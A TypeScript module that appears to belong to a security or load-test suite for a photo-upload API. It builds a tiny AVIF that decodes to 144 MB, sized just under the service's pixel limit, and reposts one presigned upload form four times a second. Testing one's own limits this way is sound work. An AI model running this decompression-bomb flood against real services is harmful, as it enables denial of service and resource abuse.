/** Attack on direct uploads: one form, posted again and again. */
import { readFile } from 'node:fs/promises';
import { setTimeout as delay } from 'node:timers/promises';
import sharp from 'sharp';
import { callerOf, newTally } from '../system/client.ts';
import type { Attack, Target } from './types.ts';

/** ms between two posts. */
const POST_INTERVAL_MS = 250;

/** 48 megapixels, just below MAX_PIXELS (50 million). */
const [WIDTH, HEIGHT] = [8_000, 6_000];

const REQUEST = `mutation ($type: String!) {
  requestPhotoUpload(contentType: $type) { url fields { name value } photo { id } }
}`;

/** Attack 4: posts a tiny file of many pixels to the same form four times a second. */
export const reuseForm: Attack = async (target, count) => {
  const form = await requestUpload(target, 'image/avif');
  const photo = new Uint8Array(await readFile(target.photo ?? ''));
  const end = Date.now() + target.seconds * 1_000;
  const posts: Promise<void>[] = [];
  while (Date.now() < end) {
    posts.push(postForm(form, photo).then(count));
    await delay(POST_INTERVAL_MS);
  }
  await Promise.all(posts);
};

/** A single color compresses to about 1 KB, and decodes to 144 MB. */
export const drawLargeAvif = () =>
  sharp({ create: { width: WIDTH, height: HEIGHT, channels: 3, background: '#3366cc' } })
    .avif({ effort: 0, quality: 30 })
    .toBuffer();

interface Form {
  url: string;
  fields: { name: string; value: string }[];
  photoId: string;
  type: string;
}

/** Requests a form for one direct upload. @throws Error when the API refuses */
export async function requestUpload(
  { url, token }: Pick<Target, 'url' | 'token'>,
  type: string,
): Promise<Form> {
  const call = callerOf(url, newTally());
  const asked = { query: REQUEST, variables: { type }, token };
  const { code, data } = await call('requestPhotoUpload', asked);
  if (code !== 'OK') throw new Error(`requestPhotoUpload was answered by ${code}.`);
  const { photo, ...form } = data.requestPhotoUpload;
  return { ...form, type, photoId: photo.id };
}

/** Posts a file to a form. @returns the HTTP status, or the network error's code */
export async function postForm({ url, fields, type }: Form, file: Uint8Array<ArrayBuffer>) {
  const form = new FormData();
  for (const { name, value } of fields) form.append(name, value);
  form.append('file', new Blob([file], { type }), 'photo');
  const signal = AbortSignal.timeout(30_000);
  const answer = await fetch(url, { method: 'POST', body: form, signal }).catch(() => undefined);
  await answer?.arrayBuffer().catch(() => undefined);
  return answer ? `${answer.status}` : 'no answer';
}
